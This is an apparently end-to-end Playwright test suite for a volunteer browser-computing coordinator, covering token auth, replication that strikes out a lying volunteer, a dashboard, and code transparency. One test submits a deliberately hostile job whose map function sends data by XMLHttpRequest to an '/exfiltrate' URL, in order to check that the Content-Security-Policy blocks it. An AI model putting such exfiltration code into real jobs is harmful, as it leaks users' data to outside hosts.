/**
 * An untrusted crowd on real Chromium tabs: a coordinator with a submit token, two
 * honest volunteer tabs and a lying volunteer (a Node process speaking the real
 * protocol, corrupting every answer). Replicated jobs must still give exact answers
 * and strike the liar out where the dashboard shows it; job endpoints must want the
 * token while volunteering needs none; job code must not reach other origins; and the
 * volunteer page must show what it runs.
 */
import { createServer, type Server } from 'node:http';
import { expect, test, type Page } from '@playwright/test';
import type { ClusterSummary, JobSummary, KeyValue } from '../shared/job.ts';
import { LyingExecutor } from '../testing/lying-executor.ts';
import { InProcessExecutor } from '../node-volunteer/in-process-executor.ts';
import { VolunteerClient } from '../runtime/volunteer-client.ts';
import { startCoordinatorProcess, type CoordinatorProcess } from './coordinator-process.ts';
import { makeProse, referenceWordCount } from './corpus.ts';
import { openVolunteer } from './fixtures.ts';
import { WORD_COUNT_SOURCE } from './word-count-job.ts';

const TOKEN = 'e2e-submit-token-4f1c';
const AUTH = { authorization: `Bearer ${TOKEN}` };

async function call<T>(url: string, init: RequestInit = {}): Promise<{ status: number; body: T }> {
  const response = await fetch(url, init);
  const text = await response.text();
  return { status: response.status, body: (text && response.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text) as T };
}

async function submit(baseUrl: string, job: object): Promise<string> {
  const { status, body } = await call<{ id: string; error?: string }>(`${baseUrl}/api/jobs`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...AUTH },
    body: JSON.stringify(job),
  });
  expect(status, body.error).toBe(201);
  return body.id;
}

async function finished(baseUrl: string, id: string): Promise<JobSummary> {
  let job: JobSummary | undefined;
  await expect
    .poll(async () => {
      job = (await call<JobSummary>(`${baseUrl}/api/jobs/${id}`, { headers: AUTH })).body;
      return ['succeeded', 'failed', 'cancelled'].includes(job.state);
    }, { timeout: 120_000, intervals: [100, 250, 500] })
    .toBe(true);
  return job!;
}

test.describe.serial('an untrusted crowd', () => {
  let coordinator: CoordinatorProcess;
  let tabs: Page[] = [];
  let liar: VolunteerClient;
  let lies: LyingExecutor;

  test.beforeAll(async ({ browser }) => {
    coordinator = await startCoordinatorProcess({ TABREDUCE_TOKEN: TOKEN, TABREDUCE_MAX_STRIKES: '2' });
    // Volunteering needs no token: the tabs connect with none.
    tabs = await Promise.all([0, 1].map(() => openVolunteer(browser, coordinator.url)));
    lies = new LyingExecutor(new InProcessExecutor({ slots: 2 }));
    liar = new VolunteerClient({ url: coordinator.url, executor: lies, agent: 'a lying Node volunteer', socketOptions: { transports: ['websocket'] } });
    liar.start();
    await expect.poll(async () => (await call<ClusterSummary>(`${coordinator.url}/api/volunteers`, { headers: AUTH })).body.volunteers).toBe(3);
  });

  test.afterAll(async () => {
    liar?.stop();
    lies?.dispose();
    await Promise.all(tabs.map((tab) => tab.context().close()));
    await coordinator?.stop();
  });

  test('job endpoints want the token; without it submit, cancel and result reads get 401', async () => {
    const body = JSON.stringify({ name: 'x', source: WORD_COUNT_SOURCE, input: { kind: 'texts', files: [{ name: 'a', text: 'a b' }] } });
    const headers = { 'content-type': 'application/json' };
    expect((await call(`${coordinator.url}/api/jobs`, { method: 'POST', headers, body })).status).toBe(401);
    const id = await submit(coordinator.url, { name: 'private', source: WORD_COUNT_SOURCE, input: { kind: 'texts', files: [{ name: 'a', text: 'a b a' }] } });
    expect((await call(`${coordinator.url}/api/jobs/${id}/result`)).status).toBe(401);
    expect((await call(`${coordinator.url}/api/jobs/${id}`, { method: 'DELETE' })).status).toBe(401);
    expect((await call(`${coordinator.url}/api/jobs`)).status).toBe(401);
    await finished(coordinator.url, id);
    expect((await call<KeyValue[]>(`${coordinator.url}/api/jobs/${id}/result`, { headers: AUTH })).status).toBe(200);
  });

  test('replication 2 gives exact word counts on several seeds and strikes the liar out', async () => {
    for (const seed of [11, 12, 13]) {
      const text = makeProse(120_000, seed);
      const id = await submit(coordinator.url, {
        name: `verified word count (seed ${seed})`,
        source: WORD_COUNT_SOURCE,
        input: { kind: 'texts', files: [{ name: 'prose.txt', text }] },
        splitBytes: 16 * 1024,
        reducers: 3,
        replication: 2,
      });
      const job = await finished(coordinator.url, id);
      expect(job.error).toBeUndefined();
      expect(job.state).toBe('succeeded');
      const { body: result } = await call<KeyValue[]>(`${coordinator.url}/api/jobs/${id}/result`, { headers: AUTH });
      expect(new Map(result as [string, number][])).toEqual(referenceWordCount([text]));
    }
    expect([...lies.told.values()].reduce((a, b) => a + b, 0)).toBeGreaterThan(0);
    const { body: cluster } = await call<ClusterSummary>(`${coordinator.url}/api/volunteers`, { headers: AUTH });
    const liarRow = cluster.volunteerList.find((volunteer) => volunteer.agent === 'a lying Node volunteer');
    expect(liarRow).toMatchObject({ struckOut: true });
    for (const honest of cluster.volunteerList.filter((volunteer) => volunteer !== liarRow)) expect(honest).toMatchObject({ strikes: 0, struckOut: false });
  });

  test('the dashboard asks for the token once, then shows the struck-out liar and the votes', async ({ browser }) => {
    const dashboard = await (await browser.newContext()).newPage();
    await dashboard.goto(coordinator.url);
    await expect(dashboard.getByText('This coordinator needs its submit token')).toBeVisible();
    await dashboard.getByTestId('token-input').fill('wrong token');
    await dashboard.getByRole('button', { name: 'Use token' }).click();
    await expect(dashboard.getByText('That token was refused.')).toBeVisible();
    await dashboard.getByTestId('token-input').fill(TOKEN);
    await dashboard.getByRole('button', { name: 'Use token' }).click();
    await expect(dashboard.getByTestId('job-row').first()).toBeVisible();
    await expect(dashboard.getByText('This coordinator needs its submit token')).toHaveCount(0);

    await dashboard.getByText('Volunteers', { exact: true }).click();
    const liarRow = dashboard.getByRole('row').filter({ hasText: 'a lying Node volunteer' });
    await expect(liarRow.getByTestId('volunteer-strikes')).toContainText('struck out');
    await dashboard.getByTestId('job-row').filter({ hasText: 'seed 13' }).click();
    await expect(dashboard.getByTestId('job-verification')).toContainText('replication 2');

    // Remembered for the session: a reload does not ask again.
    await dashboard.reload();
    await expect(dashboard.getByTestId('job-row').first()).toBeVisible();
    await expect(dashboard.getByText('This coordinator needs its submit token')).toHaveCount(0);
    await dashboard.context().close();
  });

  test('job code cannot reach another origin: the task fails with the CSP error and nothing arrives', async () => {
    let reached = 0;
    const elsewhere: Server = createServer((_request, response) => {
      reached++;
      response.end('secret');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const port = (elsewhere.address() as { port: number }).port;
    try {
      const id = await submit(coordinator.url, {
        name: 'phones home',
        source: `export function map(k, v, emit) {
  const request = new XMLHttpRequest();
  request.open('GET', 'http://127.0.0.1:${port}/exfiltrate?v=' + v, false);
  request.send();
  emit('leaked', request.responseText);
}
export function reduce(k, vs) { return vs; }`,
        input: { kind: 'range', from: 0, to: 1 },
        recordsPerTask: 1,
        reducers: 1,
        maxAttempts: 1,
        replication: 1,
      });
      const job = await finished(coordinator.url, id);
      expect(job.state).toBe('failed');
      expect(job.error?.name).toBe('NetworkError');
      expect(job.error?.message).toContain("Content-Security-Policy (connect-src)");
      expect(reached).toBe(0);
    } finally {
      await new Promise((resolve) => elsewhere.close(resolve));
    }
  });

  test('the volunteer page shows the job it runs, who submitted it, its digest and its code', async () => {
    // A job whose tasks wait a moment, so the page is caught running it.
    const id = await submit(coordinator.url, {
      name: 'slow and visible',
      submitter: 'the e2e suite',
      source: `export function map(k, v, emit) { const end = Date.now() + 400; while (Date.now() < end) {} emit('n', v); }
export function reduce(k, vs) { return vs.length; }`,
      input: { kind: 'range', from: 0, to: 12 },
      recordsPerTask: 1,
      reducers: 1,
      replication: 1,
    });
    const { body: summary } = await call<JobSummary>(`${coordinator.url}/api/jobs/${id}`, { headers: AUTH });
    const tab = tabs[0]!;
    await expect(tab.getByTestId('running-job-name')).toHaveText('slow and visible', { timeout: 30_000 });
    await expect(tab.getByTestId('running-job-submitter')).toHaveText('the e2e suite');
    await expect(tab.getByTestId('running-job-digest')).toHaveText(summary.sourceDigest.slice(0, 16));
    await tab.getByText('Read the code').click();
    await expect(tab.getByTestId('running-job-source')).toContainText('while (Date.now() < end)');
    await finished(coordinator.url, id);
  });
});
